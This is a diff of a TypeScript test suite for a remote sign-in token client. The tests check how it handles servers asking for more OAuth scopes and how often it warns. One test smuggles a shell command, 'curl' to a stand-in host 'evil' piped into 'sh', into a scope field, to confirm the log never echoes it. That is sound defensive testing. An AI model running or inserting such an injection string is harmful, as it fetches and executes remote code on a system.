@@ -3,7 +3,7 @@ import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { text } from 'node:stream/consumers';
-import { memoryStore } from '@skep/auth/sign-in/memory-store.fixture.ts';
+import { memoryStore, SOME_SIGN_IN } from '@skep/auth/sign-in/memory-store.fixture.ts';
 import type { KeptSignIn } from '@skep/auth/sign-in/port.ts';
 import { listen } from '@skep/core/fetch/listen.ts';
 import { silentLog } from '@skep/core/log/log.ts';
@@ -14,15 +14,9 @@ import { signInOfWorkload } from '../secrets/sign-in-store.ts';
 import { openRemoteToken } from './remote-token.ts';
 
 const KEY = signInOfWorkload('a1');
+const WANTS_B = 'Bearer error="insufficient_scope", scope="b"';
 const KEPT: KeptSignIn = {
-  version: 1,
-  way: 'browser',
-  resource: 'https://mcp.invalid/mcp',
-  issuer: 'https://issuer.invalid',
-  tokenEndpoint: 'https://issuer.invalid/token',
-  client: { id: 'c1', authMethod: 'none' },
-  scopes: ['a'],
-  mayBePrivate: false,
+  ...SOME_SIGN_IN,
   accessToken: 'access-1',
   obtainedAt: 0,
   expiresAt: 3_600_000,
@@ -139,11 +133,24 @@ test('403 refreshes nothing, and asks for more scopes only where the server want
   const token = await opening;
   const shown = await token.token();
   for (const challenge of ['Bearer realm="x"', 'Bearer error="invalid_token"', ',;"'])
-    token.lacking(shown, challenge);
-  token.lacking(shown, 'Bearer error="insufficient_scope", scope="b"');
-  await expect.poll(() => store.kept.get(KEY)?.wanted).toEqual(['b']);
+    expect(await token.lacking(shown, challenge)).toBeUndefined();
+  expect(await token.lacking(shown, WANTS_B)).toBeUndefined();
+  expect(store.kept.get(KEY)?.wanted).toEqual(['b']);
   expect(asked).toEqual([]);
   await token.close();
+});
+
+test('a login for what the server wants more is shown at once, and no other is advised', async () => {
+  const told: string[] = [];
+  const log = { ...silentLog, warn: (_fields: object, message: string) => void told.push(message) };
+  const { store, token: opening } = opened({}, { log });
+  const token = await opening;
+  onTestFinished(() => token.close());
+  const shown = await token.token();
+  await store.change(KEY, async () => ({ ...KEPT, accessToken: 'access-2', scopes: ['a', 'b'] }));
+  expect(await token.lacking(shown, WANTS_B)).toBe('access-2');
+  expect(await token.token()).toBe('access-2');
+  expect(told).toEqual([]);
 });
 
 test('a store that fails while a server wants more is no unhandled failure', async () => {
@@ -153,8 +160,8 @@ test('a store that fails while a server wants more is no unhandled failure', asy
   const token = await opening;
   const shown = await token.token();
   Object.assign(store, { change: () => Promise.reject(new TypeError('no such table')) });
-  token.lacking(shown, 'Bearer error="insufficient_scope", scope="b"');
-  await expect.poll(() => lines).toContain('what the server wants more could not be kept');
+  expect(await token.lacking(shown, WANTS_B)).toBeUndefined();
+  expect(lines).toContain('what the server wants more could not be kept');
   await token.close();
 });
 
@@ -194,15 +201,14 @@ test('what a server lacks is told once an hour, in none of its words', async () 
   const { clock, token: opening } = opened({}, { log });
   const token = await opening;
   onTestFinished(() => token.close());
-  const lack = (scope: string): void =>
+  const lack = (scope: string) =>
     token.lacking('access-1', `Bearer error="insufficient_scope", scope="${scope}"`);
-  lack('a;curl${IFS}evil|sh');
-  lack('b');
-  await expect.poll(() => told).toHaveLength(1);
+  await lack('a;curl${IFS}evil|sh');
+  await lack('b');
   expect(told).toEqual(['the server wants more than the token allows: skep auth login a1 asks for it']);
   clock.pass(3_600_000);
-  lack('c');
-  await expect.poll(() => told).toHaveLength(2);
+  await lack('c');
+  expect(told).toHaveLength(2);
 });
 
 test('a login is noticed though nobody calls', async () => {
